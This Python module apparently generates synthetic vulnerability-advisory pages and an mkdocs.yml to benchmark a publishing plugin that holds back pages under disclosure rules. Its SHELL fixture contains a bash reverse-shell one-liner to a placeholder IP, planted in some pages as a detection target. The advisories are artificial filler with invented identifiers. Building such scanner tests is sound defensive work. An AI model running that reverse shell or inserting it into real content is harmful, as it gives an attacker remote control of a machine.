"""Synthetic advisory sites for the benchmark: realistic pages, deterministic content.

Every tenth page is held (no operator opinion, no fix, notice too recent: CAC801) and every
fiftieth carries a reverse shell in a code block (CAC402), so the benchmark exercises
findings, not only clean pages.
"""

from __future__ import annotations

import random
from pathlib import Path

__all__ = ["held_pages", "page_text", "write_site"]

FRONT_MATTER = """\
---
title: "Advisory {n}: {issue} in {product}"
date: 2026-10-{day:02d}
threatpub:
  kind: vulnerability
  published: 2026-11-02T10:00+08:00
  classification: public
  target:
    operator: {vendor}
    system: {product}
{opinion}  notifications:
    - authority: cac
      level: national
      date: {notified}
      reference: CAC-2026-{n:04d}
---

"""

OPINION = """\
  operator_opinion:
    status: received
    date: 2026-10-20
    reference: PSIRT-2026-{n:04d}
  repair:
    status: fixed
    date: 2026-10-28
    reference: "release {version}"
"""

SECTION = """\
## {heading}

The {component} of {product} {version} mishandles {input}, which lets a remote attacker
{impact}. The flaw was reported through coordinated disclosure and {vendor} released a fix
on 2026-10-28; exploitation in the wild has not been observed. Versions 6.3.4.1 and
0.10.0.1 of the companion tool are not affected (CWE-{cwe}, CVE-2026-{cve}).

| Product | Affected | Fixed |
|---|---|---|
| {product} | before {version} | {version} |

```bash
pip install --upgrade example-{slug}=={version}
grep -r "max_header_size" /etc/{slug}/
```

"""

SHELL = """\
## Lab notes

```bash
bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
```

"""

ISSUES = [
    "Heap overflow",
    "Authentication bypass",
    "Path traversal",
    "SQL injection",
    "Use after free",
    "Improper certificate validation",
    "Integer overflow",
]
COMPONENTS = [
    "header parser",
    "session manager",
    "file upload handler",
    "query builder",
    "TLS client",
    "image decoder",
    "configuration importer",
]
INPUTS = [
    "a crafted header",
    "an unbound session token",
    "a relative path",
    "a quoted identifier",
    "a truncated record",
    "a self-signed chain",
]
IMPACTS = [
    "crash the service",
    "reach administrative pages",
    "read arbitrary files",
    "change stored records",
    "run code in the worker process",
]
HEADINGS = [
    "Overview",
    "Details",
    "Affected versions",
    "Remediation",
    "Mitigation",
    "Timeline",
    "Credits",
    "References",
]


def _no_opinion(n: int) -> bool:
    return n % 10 == 9


def _shell(n: int) -> bool:
    return n % 50 == 24


def _page_path(n: int) -> str:
    # Folders of 100 keep the nav (and the default theme's menus) realistic.
    return f"advisories/batch-{n // 100:03d}/advisory-{n:05d}.md"


def held_pages(pages: int) -> list[str]:
    """The docs-relative paths of the pages ``write_site`` makes held."""
    return [_page_path(n) for n in range(pages) if _no_opinion(n) or _shell(n)]


def page_text(n: int, size: int = 2_000, held: bool = True) -> str:
    """Page ``n`` of about ``size`` characters (at least one front matter and section).

    With ``held`` off every page publishes (for comparing builds with and without the
    plugin, which must then produce the same pages); the rules and scans still run.
    """
    no_opinion = held and _no_opinion(n)
    rng = random.Random(n)  # noqa: S311 - reproducible filler text, not secrets
    vendor = f"Example Vendor {n % 97} Ltd."
    product = f"EX-{100 + n % 900} gateway"
    version = f"{1 + n % 5}.{n % 10}.{n % 7}"
    text = FRONT_MATTER.format(
        n=n,
        day=1 + n % 28,
        issue=rng.choice(ISSUES),
        product=product,
        vendor=vendor,
        version=version,
        opinion="" if no_opinion else OPINION.format(n=n, version=version),
        notified="2026-11-10" if no_opinion else "2026-10-05",
    )
    text += f"# Advisory {n}\n\n"
    if held and _shell(n):
        text += SHELL
    while len(text) < size:
        text += SECTION.format(
            heading=rng.choice(HEADINGS),
            component=rng.choice(COMPONENTS),
            product=product,
            version=version,
            input=rng.choice(INPUTS),
            impact=rng.choice(IMPACTS),
            vendor=vendor,
            cwe=rng.randrange(20, 1000),
            cve=rng.randrange(10_000, 99_999),
            slug=f"lib{n % 13}",
        )
    return text


MKDOCS_YML = """\
site_name: Benchmark advisories
site_url: https://advisories.example.org/
use_directory_urls: true
plugins:
  - search
{plugin}{exclude}"""

PLUGIN = """\
  - threatpub:
      profiles: [cac-2019]
      jurisdiction: [CN]
      timezone: Asia/Shanghai
      include: ["advisories/**"]
"""


def write_site(
    root: Path, pages: int, size: int = 2_000, plugin: bool = True, held: bool = True
) -> Path:
    """Write an advisory site of ``pages`` pages under ``root``; returns its mkdocs.yml.

    Without the plugin, the pages the plugin would hold are listed in ``exclude_docs``, so
    that both configurations build the same pages and differ only by the plugin's work.
    """
    docs = root / "docs"
    (docs / "advisories").mkdir(parents=True, exist_ok=True)
    (docs / "index.md").write_text("# Benchmark advisories\n\nSynthetic pages.\n")
    for n in range(pages):
        path = docs / _page_path(n)
        path.parent.mkdir(exist_ok=True)
        path.write_text(page_text(n, size, held), encoding="utf-8")
    config = root / "mkdocs.yml"
    exclude = (
        ""
        if plugin or not held
        else "exclude_docs: |\n" + "".join(f"  /{path}\n" for path in held_pages(pages))
    )
    config.write_text(
        MKDOCS_YML.format(plugin=PLUGIN if plugin else "", exclude=exclude), encoding="utf-8"
    )
    return config
